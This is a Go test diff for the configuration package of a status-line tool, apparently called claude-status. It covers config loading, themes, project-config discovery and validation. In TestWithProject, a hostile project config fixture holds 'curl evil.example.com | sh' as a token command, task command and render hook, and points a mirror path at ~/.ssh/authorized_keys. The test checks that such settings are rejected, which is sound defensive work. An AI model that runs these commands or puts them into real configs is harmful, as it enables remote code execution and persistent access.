@@ -3,7 +3,13 @@ package config
 import (
 	"os"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/kostyay/claude-status/internal/template"
+	"github.com/kostyay/claude-status/internal/theme"
 )
 
 func TestDefaultConfig(t *testing.T) {
@@ -12,7 +18,7 @@ func TestDefaultConfig(t *testing.T) {
 	if cfg.Template != DefaultTemplate {
 		t.Errorf("Template = %q, want %q", cfg.Template, DefaultTemplate)
 	}
-	if cfg.GitHubWorkflow != "build_and_test" {
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"build_and_test"}) {
 		t.Errorf("GitHubWorkflow = %q, want %q", cfg.GitHubWorkflow, "build_and_test")
 	}
 	if cfg.GitHubTTL != 60 {
@@ -24,6 +30,12 @@ func TestDefaultConfig(t *testing.T) {
 	if cfg.LogPath != "" {
 		t.Errorf("LogPath = %q, want %q", cfg.LogPath, "")
 	}
+	if cfg.OutputFormat != FormatLine {
+		t.Errorf("OutputFormat = %q, want %q", cfg.OutputFormat, FormatLine)
+	}
+	if cfg.RenderDeadline != 5000 {
+		t.Errorf("RenderDeadline = %d, want %d", cfg.RenderDeadline, 5000)
+	}
 }
 
 func TestLoadConfig_ValidFile(t *testing.T) {
@@ -33,6 +45,7 @@ func TestLoadConfig_ValidFile(t *testing.T) {
 	content := `{
 		"template": "custom template",
 		"github_workflow": "ci",
+		"github_status_context": "ci/jenkins",
 		"github_ttl": 120,
 		"logging_enabled": true,
 		"log_path": "/custom/log.json"
@@ -46,9 +59,12 @@ func TestLoadConfig_ValidFile(t *testing.T) {
 	if cfg.Template != "custom template" {
 		t.Errorf("Template = %q, want %q", cfg.Template, "custom template")
 	}
-	if cfg.GitHubWorkflow != "ci" {
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"ci"}) {
 		t.Errorf("GitHubWorkflow = %q, want %q", cfg.GitHubWorkflow, "ci")
 	}
+	if cfg.GitHubStatusContext != "ci/jenkins" {
+		t.Errorf("GitHubStatusContext = %q, want %q", cfg.GitHubStatusContext, "ci/jenkins")
+	}
 	if cfg.GitHubTTL != 120 {
 		t.Errorf("GitHubTTL = %d, want %d", cfg.GitHubTTL, 120)
 	}
@@ -74,7 +90,7 @@ func TestLoadConfig_InvalidJSON(t *testing.T) {
 	if cfg.Template != DefaultTemplate {
 		t.Errorf("Template = %q, want %q (default)", cfg.Template, DefaultTemplate)
 	}
-	if cfg.GitHubWorkflow != "build_and_test" {
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"build_and_test"}) {
 		t.Errorf("GitHubWorkflow = %q, want %q (default)", cfg.GitHubWorkflow, "build_and_test")
 	}
 }
@@ -87,7 +103,7 @@ func TestLoadConfig_MissingFile(t *testing.T) {
 	if cfg.Template != DefaultTemplate {
 		t.Errorf("Template = %q, want %q (default)", cfg.Template, DefaultTemplate)
 	}
-	if cfg.GitHubWorkflow != "build_and_test" {
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"build_and_test"}) {
 		t.Errorf("GitHubWorkflow = %q, want %q (default)", cfg.GitHubWorkflow, "build_and_test")
 	}
 }
@@ -112,7 +128,7 @@ func TestLoadConfig_PartialConfig(t *testing.T) {
 	if cfg.Template != DefaultTemplate {
 		t.Errorf("Template = %q, want %q (default)", cfg.Template, DefaultTemplate)
 	}
-	if cfg.GitHubWorkflow != "build_and_test" {
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"build_and_test"}) {
 		t.Errorf("GitHubWorkflow = %q, want %q (default)", cfg.GitHubWorkflow, "build_and_test")
 	}
 }
@@ -151,6 +167,327 @@ func TestLoadConfig_LoggingEnabledFalse(t *testing.T) {
 	}
 }
 
+func TestLoadConfig_Symbols(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.json")
+
+	content := `{"symbols": {"success": "OK", "branch": "git:"}}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+
+	if cfg.Symbols["success"] != "OK" {
+		t.Errorf("Symbols[success] = %q, want %q", cfg.Symbols["success"], "OK")
+	}
+	if cfg.Symbols["branch"] != "git:" {
+		t.Errorf("Symbols[branch] = %q, want %q", cfg.Symbols["branch"], "git:")
+	}
+}
+
+func TestPalette(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+	content := `{"theme": "auto", "theme_schedule": {"light": "07:00", "dark": "19:00"}}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+	env := theme.Env{
+		Getenv: func(string) string { return "" },
+		Now:    func() time.Time { return time.Date(2025, 6, 1, 12, 0, 0, 0, time.Local) },
+	}
+	if got := cfg.Palette(env); got["yellow"] != template.Palettes[template.ThemeLight]["yellow"] {
+		t.Errorf("Palette() at noon = %v, want the light palette", got)
+	}
+
+	env.Now = func() time.Time { return time.Date(2025, 6, 1, 22, 0, 0, 0, time.Local) }
+	if got := cfg.Palette(env); got["yellow"] != template.Palettes[template.ThemeDark]["yellow"] {
+		t.Errorf("Palette() at night = %v, want the dark palette", got)
+	}
+
+	defaults := Default()
+	if got := defaults.Palette(env); got["yellow"] != template.Palettes[template.ThemeDark]["yellow"] {
+		t.Errorf("Palette() by default = %v, want the dark palette", got)
+	}
+}
+
+func TestIconSymbols(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+	content := `{"icons": "ascii", "symbols": {"branch": "git:"}}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+	symbols := cfg.IconSymbols()
+
+	if symbols["branch"] != "git:" {
+		t.Errorf("IconSymbols()[branch] = %q, want the override %q", symbols["branch"], "git:")
+	}
+	if symbols["success"] != "ok" {
+		t.Errorf("IconSymbols()[success] = %q, want the ascii theme's %q", symbols["success"], "ok")
+	}
+	defaults := Default()
+	if got := defaults.IconSymbols(); len(got) != 0 {
+		t.Errorf("Default().IconSymbols() = %v, want no overrides", got)
+	}
+}
+
+func TestLoadConfig_DiffIgnore(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.json")
+
+	content := `{"diff_ignore": ["package-lock.json", "vendor/"]}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+
+	if len(cfg.DiffIgnore) != 2 || cfg.DiffIgnore[0] != "package-lock.json" || cfg.DiffIgnore[1] != "vendor/" {
+		t.Errorf("DiffIgnore = %v, want [package-lock.json vendor/]", cfg.DiffIgnore)
+	}
+}
+
+func TestLoadConfig_ProtectedBranches(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+
+	if cfg := LoadFrom(path); !slices.Equal(cfg.ProtectedBranches, []string{"main", "master"}) {
+		t.Errorf("default ProtectedBranches = %v, want [main master]", cfg.ProtectedBranches)
+	}
+
+	if err := os.WriteFile(path, []byte(`{"protected_branches": ["trunk"]}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if cfg := LoadFrom(path); !slices.Equal(cfg.ProtectedBranches, []string{"trunk"}) {
+		t.Errorf("ProtectedBranches = %v, want [trunk]", cfg.ProtectedBranches)
+	}
+
+	// An empty list turns the warning off rather than keeping the default
+	if err := os.WriteFile(path, []byte(`{"protected_branches": []}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if cfg := LoadFrom(path); len(cfg.ProtectedBranches) != 0 {
+		t.Errorf("ProtectedBranches = %v, want none", cfg.ProtectedBranches)
+	}
+}
+
+func TestLoadConfig_SegmentTimeouts(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.json")
+
+	content := `{"segment_timeouts": {"github": 800}, "render_deadline_ms": 1500, "min_render_interval_ms": 300, "memoize_window_ms": 2000}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+
+	if cfg.SegmentTimeouts["github"] != 800 {
+		t.Errorf("SegmentTimeouts[github] = %d, want %d", cfg.SegmentTimeouts["github"], 800)
+	}
+	if want := Default().SegmentTimeouts["tasks"]; cfg.SegmentTimeouts["tasks"] != want {
+		t.Errorf("SegmentTimeouts[tasks] = %d, want the default %d kept", cfg.SegmentTimeouts["tasks"], want)
+	}
+	if cfg.RenderDeadline != 1500 {
+		t.Errorf("RenderDeadline = %d, want %d", cfg.RenderDeadline, 1500)
+	}
+	if cfg.MinRenderInterval != 300 {
+		t.Errorf("MinRenderInterval = %d, want %d", cfg.MinRenderInterval, 300)
+	}
+	if cfg.MemoizeWindow != 2000 {
+		t.Errorf("MemoizeWindow = %d, want %d", cfg.MemoizeWindow, 2000)
+	}
+}
+
+func TestLoadConfig_GitHubAggregate(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config.json")
+
+	content := `{"github_aggregate": true}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+
+	if !cfg.GitHubAggregate {
+		t.Error("GitHubAggregate should be true")
+	}
+	if !slices.Equal(cfg.GitHubWorkflow, Workflows{"build_and_test"}) {
+		t.Errorf("GitHubWorkflow = %q, want default kept", cfg.GitHubWorkflow)
+	}
+}
+
+func TestLoadConfig_GitHubEnterprise(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+	content := `{"github_host": "github.mycorp.com", "github_api_url": "https://api.mycorp.com/github"}`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := LoadFrom(path)
+
+	if cfg.GitHubHost != "github.mycorp.com" {
+		t.Errorf("GitHubHost = %q, want %q", cfg.GitHubHost, "github.mycorp.com")
+	}
+	if cfg.GitHubAPIURL != "https://api.mycorp.com/github" {
+		t.Errorf("GitHubAPIURL = %q, want %q", cfg.GitHubAPIURL, "https://api.mycorp.com/github")
+	}
+}
+
+func TestFindProjectConfig(t *testing.T) {
+	root := t.TempDir()
+	repo := filepath.Join(root, "repo")
+	sub := filepath.Join(repo, "pkg", "sub")
+	if err := os.MkdirAll(sub, 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(repo, ".git"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	// A file above the repository root doesn't belong to it
+	if err := os.WriteFile(filepath.Join(root, ProjectFile), []byte(`{}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if got := FindProjectConfig(sub); got != "" {
+		t.Errorf("FindProjectConfig() = %q, want none above the repository root", got)
+	}
+
+	want := filepath.Join(repo, ProjectFile)
+	if err := os.WriteFile(want, []byte(`{}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if got := FindProjectConfig(sub); got != want {
+		t.Errorf("FindProjectConfig() = %q, want %q", got, want)
+	}
+	if got := FindProjectConfig(""); got != "" {
+		t.Errorf("FindProjectConfig(\"\") = %q, want empty", got)
+	}
+}
+
+func TestWithProject(t *testing.T) {
+	repo := t.TempDir()
+	content := `{
+		"template": "project template",
+		"github_workflow": "ci",
+		"github_ttl": 30,
+		"logging_enabled": true,
+		"log_path": "/tmp/elsewhere.log",
+		"ca_bundle": "/tmp/evil.pem",
+		"github_host": "evil.example.com",
+		"github_api_url": "https://evil.example.com/api",
+		"github_token_command": "curl evil.example.com | sh",
+		"telemetry": true,
+		"mirror_path": "/home/me/.ssh/authorized_keys",
+		"metrics_path": "/home/me/.bashrc.prom",
+		"tk_command": ["sh", "-c", "curl evil.example.com | sh"],
+		"post_render_hooks": ["curl evil.example.com | sh"]
+	}`
+	if err := os.WriteFile(filepath.Join(repo, ProjectFile), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	user := Default()
+	user.TasksTTL = 9
+	user.LogPath = "/home/me/status.log"
+	cfg := WithProject(user, repo)
+
+	if cfg.Template != "project template" || !slices.Equal(cfg.GitHubWorkflow, Workflows{"ci"}) || cfg.GitHubTTL != 30 {
+		t.Errorf("project settings not merged: %+v", cfg)
+	}
+	if cfg.TasksTTL != 9 {
+		t.Errorf("TasksTTL = %d, want the user's 9 kept", cfg.TasksTTL)
+	}
+	if cfg.LoggingEnabled || cfg.LogPath != "/home/me/status.log" || cfg.CABundle != "" {
+		t.Errorf("machine settings taken from the project: logging=%v log_path=%q ca_bundle=%q", cfg.LoggingEnabled, cfg.LogPath, cfg.CABundle)
+	}
+	if cfg.Telemetry {
+		t.Error("Telemetry enabled by the project config")
+	}
+	if cfg.GitHubHost != "" || cfg.GitHubAPIURL != "" {
+		t.Errorf("GitHub endpoint taken from the project: host=%q api_url=%q", cfg.GitHubHost, cfg.GitHubAPIURL)
+	}
+	if cfg.MirrorPath != "" || cfg.MetricsPath != "" {
+		t.Errorf("output files taken from the project: mirror_path=%q metrics_path=%q", cfg.MirrorPath, cfg.MetricsPath)
+	}
+	if cfg.TKCommand != nil || cfg.PostRenderHooks != nil || cfg.GitHubTokenCommand != "" {
+		t.Errorf("commands taken from the project: tk_command=%q post_render_hooks=%q github_token_command=%q", cfg.TKCommand, cfg.PostRenderHooks, cfg.GitHubTokenCommand)
+	}
+
+	if got := WithProject(user, t.TempDir()); got.Template != DefaultTemplate {
+		t.Errorf("Template = %q, want the user's without a project file", got.Template)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		wantErr string
+	}{
+		{"valid", `{"github_workflow": "ci", "output_format": "json"}`, ""},
+		{"invalid JSON", `{"github_workflow": }`, "invalid config"},
+		{"unknown key", `{"github_workfow": "ci"}`, "github_workfow"},
+		{"workflow list", `{"github_workflow": ["test", "lint"]}`, ""},
+		{"empty workflow name", `{"github_workflow": ["test", ""]}`, "github_workflow"},
+		{"bad workflow", `{"github_workflow": 3}`, "github_workflow"},
+		{"bad output format", `{"output_format": "yaml"}`, "output_format"},
+		{"negative max width", `{"max_width": -1}`, "max_width"},
+		{"enterprise", `{"github_host": "github.mycorp.com", "github_api_url": "https://github.mycorp.com/api/v3"}`, ""},
+		{"bad api URL", `{"github_api_url": "github.mycorp.com/api/v3"}`, "github_api_url"},
+		{"icons", `{"icons": "nerdfont"}`, ""},
+		{"unknown icons", `{"icons": "unicode"}`, "icons"},
+		{"theme", `{"theme": "auto", "theme_schedule": {"light": "07:00", "dark": "19:30"}}`, ""},
+		{"unknown theme", `{"theme": "solarized"}`, "theme"},
+		{"bad schedule", `{"theme_schedule": {"light": "7am", "dark": "19:00"}}`, "theme_schedule light"},
+		{"beads next", `{"beads_next_order": "priority", "beads_next_label": "bug"}`, ""},
+		{"unknown beads order", `{"beads_next_order": "random"}`, "beads_next_order"},
+		{"tk fork", `{"tk_command": ["tkx", "query"], "tk_statuses": {"todo": "open", "waiting": "blocked"}, "tk_blocked": "either"}`, ""},
+		{"unknown tk status", `{"tk_statuses": {"review": "pending"}}`, "tk_statuses"},
+		{"empty tk command", `{"tk_command": [""]}`, "tk_command"},
+		{"unknown tk blocked", `{"tk_blocked": "never"}`, "tk_blocked"},
+		{"protected branches", `{"protected_branches": ["main", "release/*"]}`, ""},
+		{"bad protected branch glob", `{"protected_branches": ["release/["]}`, "protected_branches"},
+		{"render hooks", `{"pre_render_hooks": ["led-status"], "post_render_hooks": ["tee /tmp/status.json"], "render_hook_timeout_ms": 500}`, ""},
+		{"mirror", `{"mirror_path": "/tmp/status.fifo", "mirror_format": "json"}`, ""},
+		{"bad mirror format", `{"mirror_format": "yaml"}`, "mirror_format"},
+		{"metrics", `{"metrics_path": "/var/lib/node_exporter/claude.prom"}`, ""},
+		{"metrics without .prom", `{"metrics_path": "/tmp/claude.txt"}`, "metrics_path"},
+		{"native git", `{"git_backend": "native"}`, ""},
+		{"bad git backend", `{"git_backend": "libgit2"}`, "git_backend"},
+		{"empty render hook", `{"post_render_hooks": [" "]}`, "render hooks"},
+		{"host with scheme", `{"github_host": "https://github.mycorp.com"}`, "github_host"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "config.json")
+			if err := os.WriteFile(path, []byte(tt.content), 0644); err != nil {
+				t.Fatal(err)
+			}
+
+			err := Validate(path)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Errorf("Validate() error = %v, want nil", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("Validate() error = %v, want it to mention %q", err, tt.wantErr)
+			}
+		})
+	}
+
+	if err := Validate(filepath.Join(t.TempDir(), "missing.json")); err != nil {
+		t.Errorf("Validate(missing) error = %v, want nil", err)
+	}
+}
+
 func TestXDGPaths(t *testing.T) {
 	// These tests verify that paths are constructed correctly
 	// The actual XDG values depend on the environment